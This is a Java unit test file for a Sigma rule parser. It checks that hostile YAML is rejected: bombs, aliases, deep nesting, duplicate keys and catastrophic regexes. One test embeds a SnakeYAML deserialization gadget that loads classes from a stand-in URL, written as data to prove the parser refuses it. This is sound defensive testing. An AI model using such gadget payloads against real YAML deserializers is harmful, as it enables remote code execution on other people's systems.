package io.detectionhub.sigma.parser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.time.Duration;

import org.junit.jupiter.api.Test;

import io.detectionhub.sigma.model.SigmaRule;

/** Hostile or broken YAML is rejected with a clear problem, fast, and never turned into objects. */
class HostileYamlTest {

    private final SigmaParser parser = new SigmaParser();

    private SigmaValidationException problems(String yaml) {
        SigmaValidationException e = catchThrowableOfType(SigmaValidationException.class, () -> parser.parse(yaml));
        assertThat(e).as("expected a validation problem").isNotNull();
        return e;
    }

    @Test
    void rejectsABillionLaughsBombQuickly() {
        String bomb = TestYaml.read("billion_laughs.yml");
        SigmaValidationException e = org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                java.time.Duration.ofSeconds(5), () -> problems(bomb));
        assertThat(e.problems()).extracting(SigmaProblem::message).containsExactly("the YAML uses too many aliases "
                + "(a possible YAML bomb); anchors and aliases are not allowed in Sigma rules");
    }

    @Test
    void rejectsAnyAnchorOrAlias() {
        SigmaValidationException e = problems("""
                title: t
                logsource: {product: windows}
                detection:
                    selection: &sel
                        Image: x
                    other: *sel
                    condition: selection or other
                """);
        assertThat(e.problems()).extracting(SigmaProblem::toString).containsExactly("line 4: detection.selection: "
                + "YAML anchors and aliases (&sel, *sel) are not allowed in Sigma rules; write the values out");
    }

    @Test
    void rejectsTextLargerThanTwoMegabytes() {
        String huge = "title: t\ndescription: " + "x".repeat(2_100_000) + "\n";
        SigmaValidationException e = problems(huge);
        assertThat(e.problems()).singleElement().satisfies(p -> assertThat(p.message())
                .isEqualTo("rule text too large: 2100023 characters, at most 2000000 are accepted"));
    }

    @Test
    void rejectsDeepNesting() {
        String deep = "title: t\nx: " + "[".repeat(200) + "]".repeat(200) + "\n";
        SigmaValidationException e = problems(deep);
        assertThat(e.problems()).extracting(SigmaProblem::message)
                .containsExactly("the YAML is nested too deeply (more than 40 levels)");
    }

    @Test
    void rejectsDuplicateKeysWithBothLines() {
        SigmaValidationException e = problems("""
                title: t
                logsource: {product: windows}
                detection:
                    selection:
                        Image: a.exe
                        Image: b.exe
                    condition: selection
                title: again
                """);
        assertThat(e.problems()).extracting(SigmaProblem::toString).containsExactly(
                "line 6: detection.selection.Image: duplicate key 'Image' (first defined on line 5)",
                "line 8: title: duplicate key 'title' (first defined on line 1)");
    }

    @Test
    void neverConstructsObjectsFromTags() {
        SigmaValidationException e = problems("""
                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                logsource: {product: windows}
                detection: {selection: {a: 1}, condition: selection}
                """);
        assertThat(e.problems()).extracting(SigmaProblem::message).containsExactly(
                "the YAML tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed in Sigma rules");
    }

    @Test
    void reportsYamlSyntaxErrorsWithTheirLine() {
        SigmaValidationException e = problems("""
                title: t
                logsource: {product: windows}
                detection:
                    selection:
                        Image: 'unterminated
                    condition: selection
                """);
        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(7);
            assertThat(p.message()).startsWith("invalid YAML: found unexpected end of stream");
        });
    }

    @Test
    void explainsTabIndentation() {
        SigmaValidationException e = problems("title: t\ndetection:\n\tselection: x\n");
        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(3);
            assertThat(p.message()).isEqualTo("invalid YAML: a tab character cannot be used for indentation, use "
                    + "spaces");
        });
    }

    @Test
    void rejectsEmptyTextAndNonMapDocuments() {
        assertThat(problems("  \n").problems()).extracting(SigmaProblem::message)
                .containsExactly("the Sigma text is empty");
        assertThat(problems("# only a comment\n").problems()).extracting(SigmaProblem::message)
                .containsExactly("the text contains no YAML document");
        assertThat(problems("- a\n- b\n").problems()).extracting(SigmaProblem::message).containsExactly(
                "a Sigma document must be a map of attributes (title, logsource, detection...), not a list");
    }

    @Test
    void toleratesAByteOrderMark() {
        SigmaRule rule = parser.parseRule("\uFEFF" + TestYaml.rule("sel: {a: 1}\ncondition: sel"));
        assertThat(rule.title()).isEqualTo("Test rule");
    }

    @Test
    void aCatastrophicRegexIsAcceptedBecauseRe2jRunsInLinearTime() {
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> parser.parseRule(
                TestYaml.rule("sel: {CommandLine|re: '(a+)+$'}\ncondition: sel")));
    }

    @Test
    void regexFeaturesOutsideRe2AreReportedNotAccepted() {
        SigmaValidationException e = problems(TestYaml.rule("sel: {CommandLine|re: '(?<=a)b'}\ncondition: sel"));
        assertThat(e.problems()).singleElement().satisfies(p -> assertThat(p.message())
                .startsWith("invalid regular expression in 'CommandLine|re': "));
    }

    @Test
    void rejectsRegexesWhoseRepetitionsExplodeWhenCompiled() {
        SigmaValidationException e = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> problems(
                TestYaml.rule("sel: {CommandLine|re: '((a{1000}){1000}){1000}'}\ncondition: sel")));
        assertThat(e.problems()).extracting(SigmaProblem::message).containsExactly("regular expression too complex "
                + "in 'CommandLine|re': its repetitions expand to more than 50000 steps; simplify nested {n,m} counts");
    }

    @Test
    void estimatesRegexSizeWithCountedRepetitions() {
        assertThat(RegexComplexity.estimate("abc")).isEqualTo(3);
        assertThat(RegexComplexity.estimate("(\\d{1,3}\\.){3}\\d{1,3}")).isEqualTo(24);
        assertThat(RegexComplexity.estimate(".{1000,}")).isEqualTo(1001);
        assertThat(RegexComplexity.estimate("[{]{2}x{")).isEqualTo(5);
        assertThat(RegexComplexity.estimate("(a{1000}){1000}")).isGreaterThan(RegexComplexity.LIMIT);
        assertThat(RegexComplexity.estimate("(".repeat(10_000))).isGreaterThan(RegexComplexity.LIMIT);
    }

    @Test
    void rejectsDeeplyNestedConditionsWithoutStackOverflow() {
        String condition = "(".repeat(5_000) + "sel" + ")".repeat(5_000);
        SigmaValidationException e = problems(TestYaml.rule("sel: {a: 1}\ncondition: '" + condition + "'"));
        assertThat(e.problems()).extracting(SigmaProblem::message).containsExactly("the condition is nested too "
                + "deeply (more than 100 levels of parentheses or 'not') (in condition '" + condition + "')");
        String nots = "not ".repeat(150) + "sel";
        assertThat(problems(TestYaml.rule("sel: {a: 1}\ncondition: " + nots)).problems()).singleElement()
                .satisfies(p -> assertThat(p.message()).startsWith("the condition is nested too deeply"));
    }

    @Test
    void listsAtMostOneHundredProblems() {
        StringBuilder detection = new StringBuilder("sel:\n");
        for (int i = 0; i < 500; i++) {
            detection.append("    F").append(i).append("|bogus: x\n");
        }
        detection.append("condition: sel");
        SigmaValidationException e = problems(TestYaml.rule(detection.toString()));
        assertThat(e.problems()).hasSize(101);
        assertThat(e.problems().get(100).message()).isEqualTo("... and 400 more problems not listed");
    }

    @Test
    void rejectsTooManySearchIdentifiers() {
        StringBuilder detection = new StringBuilder();
        for (int i = 0; i < 2_001; i++) {
            detection.append("s").append(i).append(": {a: 1}\n");
        }
        detection.append("condition: 1 of s*");
        SigmaValidationException e = problems(TestYaml.rule(detection.toString()));
        assertThat(e.problems()).extracting(SigmaProblem::message)
                .containsExactly("too many search identifiers (2001); at most 2000 are accepted");
    }
}
